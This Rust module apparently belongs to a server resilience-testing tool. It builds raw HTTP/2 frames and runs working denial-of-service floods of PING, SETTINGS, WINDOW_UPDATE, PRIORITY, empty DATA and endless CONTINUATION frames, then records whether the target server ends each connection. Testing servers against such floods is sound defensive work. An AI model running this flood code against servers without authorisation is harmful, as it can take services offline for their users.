//! Floods of HTTP/2 frames without content: PING, SETTINGS, WINDOW_UPDATE, empty DATA, PRIORITY,
//! and empty CONTINUATION (RFC 9113, sections 6.1 to 6.10 and 10.5).
//!
//! One connection of each kind every two seconds, with 1,000 frames per second for 4 s: 12
//! connections and 12,000 frames per second at once. The server must end an endless header block,
//! because it cannot process it.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::sleep;

use super::clients::{Http, flood_until_ended};
use super::crew::{Crew, Neighbour, Strike};
use crate::Failure;

/// Duration of a flood.
const STAYS: Duration = Duration::from_secs(4);
/// Frames per batch, and the interval between batches.
const BATCH: usize = 20;
const APART: Duration = Duration::from_millis(20);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// `:method: POST`, `:scheme: https` and `:path: /` of HPACK's static table.
const HEAD: [u8; 3] = [0x83, 0x87, 0x84];
const END_HEADERS: u8 = 4;

/// Frame types.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

fn neighbour(name: &'static str) -> Neighbour {
    Neighbour { name, per_second: 0.5, at_once: 1, network: 13, addresses: 4 }
}

pub(super) fn join(crew: &mut Crew) {
    let floods = [
        ("empty HTTP/2 frames: PING", Flood::of(frame(PING, 0, 0, &[0; 8]))),
        ("empty HTTP/2 frames: SETTINGS", Flood::of(frame(SETTINGS, 0, 0, &[]))),
        (
            "empty HTTP/2 frames: WINDOW_UPDATE",
            Flood::of(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
        ),
        ("empty HTTP/2 frames: PRIORITY", Flood::of(frame(PRIORITY, 0, 3, &[0, 0, 0, 0, 15]))),
        (
            "empty HTTP/2 frames: DATA",
            Flood {
                begin: frame(HEADERS, END_HEADERS, 1, &HEAD),
                ..Flood::of(frame(DATA, 0, 1, &[]))
            },
        ),
        (
            "empty HTTP/2 frames: CONTINUATION",
            Flood {
                begin: frame(HEADERS, 0, 1, &HEAD),
                must_end: true,
                ..Flood::of(frame(CONTINUATION, 0, 1, &[]))
            },
        ),
    ];
    for (name, flood) in floods {
        crew.add(neighbour(name), move |strike| floods_with(strike, flood.clone()));
    }
}

/// Bytes sent by a connection.
#[derive(Clone)]
struct Flood {
    /// Sent once, after the preface.
    begin: Vec<u8>,
    /// Sent repeatedly.
    frame: Vec<u8>,
    /// Whether the server must end the connection.
    must_end: bool,
}

impl Flood {
    fn of(frame: Vec<u8>) -> Self {
        Self { begin: Vec::new(), frame, must_end: false }
    }
}

fn frame(kind: u8, flags: u8, stream: u8, payload: &[u8]) -> Vec<u8> {
    let mut frame = vec![0, 0, payload.len() as u8, kind, flags, 0, 0, 0, stream];
    frame.extend_from_slice(payload);
    frame
}

async fn floods_with(strike: Strike, flood: Flood) -> Result<(), Failure> {
    strike.tally.attempt(1);
    let mut stream = strike.tls(Http::V2, None).await?;
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await?;
    stream.flush().await?;
    // The server's SETTINGS show that it accepted HTTP/2.
    stream.read_exact(&mut [0; 9]).await?;
    let (mut reader, mut writer) = tokio::io::split(stream);
    let batch = flood.frame.repeat(BATCH);
    let floods = async {
        let mut sent = writer.write_all(&flood.begin).await;
        while sent.is_ok() {
            sleep(APART).await;
            sent = writer.write_all(&batch).await.and(writer.flush().await);
        }
    };
    match flood_until_ended(floods, &mut reader, STAYS).await {
        Ok(how) => strike.tally.answer(how),
        Err(_) if flood.must_end => strike.tally.breach("never ended by the server"),
        Err(_) => strike.tally.answer("left"),
    }
    Ok(())
}
